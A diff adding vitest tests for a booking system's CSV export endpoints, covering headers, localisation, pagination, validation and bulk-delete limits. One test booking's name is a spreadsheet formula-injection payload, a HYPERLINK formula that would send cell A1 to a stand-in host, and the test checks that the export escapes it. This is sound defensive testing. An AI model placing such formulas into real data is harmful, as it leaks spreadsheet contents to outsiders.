@@ -1,0 +1,108 @@
+import { beforeAll, expect, test } from 'vitest';
+import type { Booking } from '#features/bookings/bookings.contract.ts';
+import { sql } from '#platform/database/sql.ts';
+import { makeBooking } from '../support/bookings.ts';
+import { createTestApp, type TestApp } from '../support/test-app.ts';
+import type { TestClient } from '../support/test-client.ts';
+
+let site: TestApp;
+let staff: TestClient;
+let hostile: Booking;
+
+beforeAll(async () => {
+  site = await createTestApp();
+  staff = await site.staffClient();
+  hostile = await makeBooking(staff, {
+    fullName: '=HYPERLINK("https://example.com?"&A1,"Żółć; click")',
+    email: 'hostile@example.org',
+    phoneNumber: '+39 333 1000001',
+  });
+});
+
+const linesOf = (text: string) => text.slice(1).trimEnd().split('\r\n');
+
+test('a booking is exported by itself, in UTF-8, without anything that a spreadsheet would run', async () => {
+  const { status, headers, text } = await staff.get(`/api/bookings/${hostile.id}/export`);
+  expect(status).toBe(200);
+  expect(headers).toMatchObject({
+    'content-type': 'text/csv; charset=utf-8',
+    'content-disposition': `attachment; filename="booking-WATER-${hostile.id}.csv"`,
+    'cache-control': 'no-store',
+  });
+  expect(text.startsWith('\ufeff')).toBe(true);
+  const [head, row, ...others] = linesOf(text);
+  expect(head).toBe(
+    'Booking,Status,Full name,Email,Phone number,Date of birth,Booking Date,Time,Items booked,Total (EUR),Language,Created',
+  );
+  expect(row).toContain(
+    `WATER-${hostile.id},Pending,"'=HYPERLINK(""https://example.com?""&A1,""Żółć; click"")",hostile@example.org,'+39 333 1000001,1990-05-20,2027-06-20,10:00 - 11:00,1 × Single kayak (1 h),14.00,EN,`,
+  );
+  expect(others).toEqual([]);
+});
+
+test('an export speaks the language of whoever asks', async () => {
+  const { text } = await staff.get(`/api/bookings/${hostile.id}/export`, { 'accept-language': 'it' });
+  expect(linesOf(text)[0]).toMatch(/^Prenotazione,Stato,Nome e cognome,/);
+  expect(text).toContain('Kayak singolo');
+});
+
+test('a booking that does not exist is not exported', async () => {
+  const { status, body } = await staff.get('/api/bookings/999999/export');
+  expect([status, body.code]).toEqual([404, 'bookings/not-found']);
+});
+
+test('the filtered list is exported whole and in its order, however many pages that takes', async () => {
+  const busy = await createTestApp();
+  const client = await busy.staffClient();
+  const { id } = await makeBooking(client, { fullName: 'Template' });
+  // Cancelled, so that they hold nothing.
+  await client.patch(`/api/bookings/${id}/cancel`);
+  await busy.database.run(sql`
+    with made as (
+      insert into bookings (request_hash, state, cancel_reason, language, full_name, email, date_of_birth, phone_number,
+        booking_date, start_slot, total_cents)
+      select request_hash, state, cancel_reason, language, 'Copy ' || n, email, date_of_birth, phone_number,
+        booking_date + n % 7, n % 18, total_cents
+      from bookings, generate_series(1, 2500) n where id = ${id} returning id
+    ), lines as (
+      insert into booking_lines select made.id, item_id, quantity, duration, unit_price_cents
+      from made, booking_lines where booking_id = ${id}
+    )
+    insert into booking_documents (booking_id, document_type, document_id, sha256, language)
+    select made.id, document_type, document_id, sha256, language from made, booking_documents where booking_id = ${id}`);
+
+  const { headers, text } = await client.get('/api/bookings/export?q=copy&sort=date-asc');
+  expect(headers['content-disposition']).toMatch(/^attachment; filename="bookings-\d{4}-\d\d-\d\d\.csv"$/);
+  const rows = linesOf(text).slice(1);
+  expect(rows).toHaveLength(2500);
+  expect(new Set(rows).size).toBe(2500);
+  const days = rows.map((row) => row.split(',')[6]);
+  expect(days).toEqual(days.toSorted());
+  expect(linesOf((await client.get('/api/bookings/export?q=template')).text)).toHaveLength(2);
+  expect(linesOf((await client.get('/api/bookings/export?status=paid')).text)).toHaveLength(1);
+
+  const { body } = await client.get('/api/bookings/count');
+  expect(body).toEqual({ count: 2501, isMore: false, isAny: true });
+});
+
+test.each(['?status=expired', '?cursor=5', '?limit=5', '?sort=email', '?q=%00'])(
+  'an export of %s is refused',
+  async (query) => {
+    const { status, body } = await staff.get(`/api/bookings/export${query}`);
+    expect([status, body.code]).toEqual([422, 'http/invalid']);
+  },
+);
+
+test('whoever selects none or too many is told so', async () => {
+  const select = (bookingIds: number[]) => staff.post('/api/bookings/delete-selected', { bookingIds });
+  const none = await select([]);
+  expect(none.status).toBe(422);
+  expect(none.body.issues).toEqual([
+    { path: 'bookingIds', message: 'Please select at least one booking to delete' },
+  ]);
+  const many = await select(Array.from({ length: 501 }, (_, n) => n + 1));
+  expect(many.status).toBe(422);
+  expect(many.body.issues).toEqual([
+    { path: 'bookingIds', message: 'Please select at most 500 bookings at a time' },
+  ]);
+});
